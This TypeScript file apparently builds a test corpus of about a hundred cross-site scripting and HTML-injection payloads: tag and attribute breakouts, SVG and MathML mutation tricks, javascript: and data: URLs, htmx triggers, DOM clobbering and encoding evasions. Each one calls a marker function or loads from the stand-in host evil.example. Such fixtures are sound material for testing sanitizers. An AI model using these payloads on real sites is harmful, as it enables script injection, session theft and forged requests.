// Some hundred texts that would act in a page which took them for markup, by the ways in which pages let that happen. Each
// calls `__hit` with its own number, or asks another host for it, where it comes to life.

type Pattern = (act: string, elsewhere: string) => string;

const quotes = ['"', "'", "`", ""] as const;
const handlers = [
  "onload",
  "onerror",
  "onfocus",
  "onmouseover",
  "onpointerenter",
  "onanimationstart",
  "ontoggle",
] as const;
/** A letter that many programs take for another: half of a tag, or of a word. */
const lookalikes = ["\uff1c", "\ufe64", "\u2039", "\u02c2"] as const;

const tags: readonly Pattern[] = [
  (act) => `<script>${act}</script>`,
  (act) => `<ScRiPt>${act}</sCrIpT>`,
  (act) => `<script\n>${act}</script\n>`,
  (act) => `<script/x>${act}</script>`,
  (act) => `<scr<script>ipt>${act}</scr</script>ipt>`,
  (act) => `<<script>${act}//<</script>`,
  (act) => `<script type=module>${act}</script>`,
  (_, elsewhere) => `<script src=${elsewhere}></script>`,
  (_, elsewhere) => `<link rel=stylesheet href=${elsewhere}>`,
  (_, elsewhere) => `<iframe src=${elsewhere}></iframe>`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  (act) => `<iframe srcdoc="&lt;script&gt;parent.${act}&lt;/script&gt;">`,
  (act) => `<object data="data:text/html,<script>${act}</script>"></object>`,
  (_, elsewhere) => `<embed src=${elsewhere}>`,
  (_, elsewhere) => `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  (act) => `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  (_, elsewhere) => `<base href=${elsewhere}/>`,
  (_, elsewhere) => `<form action=${elsewhere}><button autofocus>Post it`,
  (_, elsewhere) => `<button form=gate formaction=${elsewhere}>Approve</button>`,
  (_, elsewhere) => `<input type=image src=${elsewhere} formaction=${elsewhere}>`,
  (_, elsewhere) => `<video poster=${elsewhere}><source src=${elsewhere}></video>`,
  (_, elsewhere) => `<img src=${elsewhere} srcset="${elsewhere} 2x">`,
  (act) => `<details open ontoggle=${act}>`,
  (act) => `<template><script>${act}</script></template>`,
  (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  (act) => `<dialog open><a href=javascript:${act}>Sign in again</a></dialog>`,
];

const drawings: readonly Pattern[] = [
  (act) => `<svg onload=${act}>`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  (act) => `<svg><a xlink:href="javascript:${act}"><text y=20>x</text></a></svg>`,
  (act) => `<svg><style><img src=x onerror=${act}></style></svg>`,
  (act) => `<svg><foreignObject><iframe srcdoc="<script>top.${act}</script>"></foreignObject></svg>`,
  (_, elsewhere) => `<svg><use href="${elsewhere}#x"/><image href="${elsewhere}"/></svg>`,
  (act) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${act}&gt;"></table></math>`,
  (act) => `<math><maction actiontype=statusline xlink:href="javascript:${act}">x</maction></math>`,
];

const breakouts: readonly Pattern[] = [
  ...quotes.map(
    (quote): Pattern =>
      (act) =>
        `${quote}><img src=x onerror=${act}>`,
  ),
  ...quotes.map(
    (quote): Pattern =>
      (act) =>
        `x${quote} autofocus onfocus=${quote}${act}${quote} x=${quote}`,
  ),
  ...handlers.map(
    (handler): Pattern =>
      (act) =>
        `" ${handler}="${act}" tabindex="0`,
  ),
  (act) => `x\n onfocus=${act}\n autofocus`,
  (act) => `x/onerror=${act}/`,
  (act) => `</title><script>${act}</script>`,
  (act) => `</textarea><script>${act}</script>`,
  (act) => `</option></select><script>${act}</script>`,
  (act) => `</style><script>${act}</script>`,
  (act) => `</code></pre></table></main><script>${act}</script>`,
];

const inScripts: readonly Pattern[] = [
  (act) => `</script><script>${act}</script>`,
  (act) => `</SCRIPT ><img src=x onerror=${act}>`,
  (act) => `<!--<script>${act}`,
  (act) => `--><script>${act}</script><!--`,
  (act) => `--!><script>${act}</script>`,
  (act) => `]]><script>${act}</script><![CDATA[`,
  (act) => `<?xml-stylesheet href="javascript:${act}"?>`,
  (act) => `"}];${act};[{"x":"`,
  (act) => `\\"};${act};//`,
  (act) => `\u2028${act}\u2029`,
  (act) => "${" + act + "}",
  (act) => "`+" + act + "+`",
  (act) => `{{constructor.constructor('${act}')()}}`,
  (act) => `');${act};('`,
];

const addresses: readonly Pattern[] = [
  (act) => `javascript:${act}`,
  (act) => `JaVaScRiPt:${act}`,
  (act) => `java\tscript:${act}`,
  (act) => `\u0001javascript:${act}`,
  (act) => `&#106;avascript&colon;${act}`,
  (act) => `data:text/html,<script>${act}</script>`,
  (act) => `data:text/html;base64,${Buffer.from(`<script>${act}</script>`).toString("base64")}`,
  (act) => `vbscript:${act}`,
  (act) => `https://github.com/acme/shop/pull/7"onclick="${act}`,
  (_, elsewhere) => elsewhere.replace("https:", ""),
  (_, elsewhere) => elsewhere.replace("https://", "/\\"),
  (_, elsewhere) => `[click](${elsewhere}) <${elsewhere}>`,
];

const styles: readonly Pattern[] = [
  (_, elsewhere) => `<style>@import "${elsewhere}";</style>`,
  (_, elsewhere) => `" style="background:url(${elsewhere})`,
  (_, elsewhere) => `red;}*{background:url(${elsewhere})}`,
];

const htmx: readonly Pattern[] = [
  (act) => `<b hx-on:click="${act}" hx-on::load="${act}">x</b>`,
  (_, elsewhere) => `<b hx-get="${elsewhere}" hx-trigger="load">x</b>`,
  (_, elsewhere) => `<b data-hx-post="${elsewhere}" data-hx-trigger="load">x</b>`,
  () => `" hx-delete="/jobs" hx-trigger="load" x="`,
  (act) => `<b hx-vals='js:{x:${act}}' hx-get="/reviews" hx-trigger="load">x</b>`,
];

const clobbering: readonly Pattern[] = [
  (_, elsewhere) => `<a id=theme name=csrf href=${elsewhere}>x</a>`,
  () => `<form id=data><input name=csrf value=mine></form>`,
  (act) => `<img name=getElementById><img name=body onerror=${act} src=x>`,
];

const tricks: readonly Pattern[] = [
  (act) => `&lt;script&gt;${act}&lt;/script&gt;`,
  (act) => `&#60;img src=x onerror=${act}&#62;`,
  (act) => `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  (act) => `<scr\u0000ipt>${act}</scr\u0000ipt>`,
  (act) => `\u202e<script>${act}</script>\u202c\u2066`,
  ...lookalikes.map(
    (open): Pattern =>
      (act) =>
        `${open}script>${act}${open}/script>`,
  ),
];

const patterns = [
  ...tags,
  ...drawings,
  ...breakouts,
  ...inScripts,
  ...addresses,
  ...styles,
  ...htmx,
  ...clobbering,
  ...tricks,
];

/** The host that they ask. */
export const elsewhereHost = "evil.example";

/** By number, each with what it shows as: `__hit(7)`, or the address with 7 in it. */
export const hostileStrings: readonly string[] = patterns.map((write, at) =>
  write(`__hit(${at})`, `https://${elsewhereHost}/${at}`),
);
